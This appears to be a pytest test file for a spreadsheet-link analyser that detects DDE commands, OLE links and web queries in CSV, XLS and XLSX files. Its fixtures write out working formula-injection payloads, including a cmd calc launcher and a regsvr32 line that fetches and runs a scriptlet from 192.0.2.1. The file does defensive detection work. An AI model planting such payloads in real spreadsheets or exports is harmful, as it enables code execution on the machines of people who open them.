"""Links of spreadsheets that start or fetch something."""

import random
import struct

import pytest

from sekisho.analyzers.sheet_links import LINKS, analyze, command_line, has_links
from sekisho.app.lab.cfb import write_compound
from sekisho.model.artifact import Artifact, Feature
from sekisho.model.errors import LimitError, MalformedError
from tests.analyzers.test_ooxml import pack

CALC = r"cmd|'/k ..\..\..\Windows\System32\calc.exe'!''"
FETCH = r"MSEXCEL|'\..\..\..\Windows\System32\regsvr32 /s /n /u /i:http://192.0.2.1/a.sct scrobj.dll'!''"


def read(data, name="a.csv", **options):
    features, children, error = {}, [], None
    artifact = Artifact(name, data, name, **options)
    if not has_links(artifact):
        return features, children, error
    try:
        for one in analyze(artifact):
            if isinstance(one, Feature):
                features.setdefault(one.name, []).append(one.value)
            else:
                children.append(one)
    except (MalformedError, LimitError) as raised:
        error = raised
    return features, children, error


@pytest.mark.parametrize(
    "wrap",
    [
        "={0}",
        '"={0}"',
        "+{0}",
        "-{0}",
        "@SUM({0})",
        "=1+{0}",
        "a,={0},b",
        "a\t={0}\tb",
        "a;={0};b",
        "line one\nx,={0}\n",
    ],
)
@pytest.mark.parametrize("formula", [CALC, FETCH, "cmd|'/c calc'!A0"])
def test_links_in_text(wrap, formula):
    features, (child,), error = read(wrap.format(formula).encode())
    assert error is None
    assert len(features["sheet.dde"]) == 1
    assert child.kind == "cmd"
    assert "System32" in child.data.decode() or child.data == b"cmd /c calc"


def test_what_a_link_starts():
    assert command_line(r"cmd|/c calc.exe") == "cmd /c calc.exe"
    features, (child,), _ = read(f"={FETCH}".encode())
    assert child.data.decode().startswith(r"\Windows\System32\regsvr32 /s")
    assert [url.host for url in features["url"]] == ["192.0.2.1"]


@pytest.mark.parametrize(
    "text",
    [
        "name,value\nA|B!,1\n",
        "completely innocent text, with | and !",
        "2022-01-01 | error! | it's gone!\n- item | other!\n",
        "=SUM(A1:A3),=Sheet1!A1",
        "",
    ],
)
def test_text_without_links(text):
    assert read(text.encode()) == ({}, [], None)
    assert not has_links(Artifact("a.eml", f"={CALC}".encode(), "a.eml"))


def record(kind, body):
    return struct.pack("<HH", kind, len(body)) + body


def text(value, wide=False):
    return struct.pack("<HB", len(value), wide) + value.encode("utf-16-le" if wide else "cp1252")


def workbook(*records):
    return write_compound({"Workbook": record(0x809, b"\0\6\5\0") + b"".join(records)})


@pytest.mark.parametrize("wide", [False, True])
def test_links_of_workbooks(wide):
    links = [
        record(0x1AE, b"\0\0" + text(path, wide))
        for path in ("cmd\x03/c calc.exe", "Word.Document.8\x03C:\\a.doc", "C:\\a.xls")
    ]
    features, (child,), error = read(workbook(*links, record(0x1AE, b"\1\0\1\4")), "a.xls")
    assert error is None
    assert features == {"sheet.dde": ["cmd|/c calc.exe"], "sheet.ole_link": ["Word.Document.8|C:\\a.doc"]}
    assert child.data == b"cmd /c calc.exe"


def test_web_queries():
    for data, name in (
        (b"WEB\r\n1\r\nhttp://192.0.2.1/a.txt\r\n\r\nSelection=1", "a.iqy"),
        (workbook(record(0xDC, text("URL;http://192.0.2.1/a.txt"))), "a.xls"),
        (
            pack(
                {
                    "xl/connections.xml": '<connections><connection><webPr url="http://192.0.2.1/a.txt"/></connection></connections>'
                }
            ),
            "a.xlsx",
        ),
    ):
        features, children, error = read(data, name)
        assert (children, error) == ([], None)
        assert features["sheet.web_query"] == ["http://192.0.2.1/a.txt"]
        assert features["url"][0].where == "query"


def test_more_links_than_are_given():
    lines = "\n".join(f"=cmd|'/c calc {number}'!A0" for number in range(LINKS + 1))
    features, _, error = read(lines.encode())
    assert len(features["sheet.dde"]) == LINKS
    assert isinstance(error, LimitError)


def test_only_foreseen_errors_come_out_of_broken_files():
    dice = random.Random(9)
    seeds = [
        workbook(record(0x1AE, b"\0\0" + text("cmd\x03/c calc"))),
        pack({"xl/connections.xml": "<a/>"}),
        f"={CALC}\n".encode() * 20,
    ]
    for _ in range(300):
        data = bytearray(dice.choice(seeds))
        for _ in range(dice.randrange(1, 8)):
            data[dice.randrange(4, len(data))] = dice.randrange(256)
        read(bytes(data[: dice.randrange(8, len(data) + 1)]))


def test_large_texts_come_to_an_end():
    for data in (
        b"|" * 2_000_000 + b"!",
        b"=a|'" * 500_000 + b"!",
        b"=|!" * 600_000,
        b" " * 1_000_000 + b"=cmd|'/c calc'!A0",
    ):
        read(data)
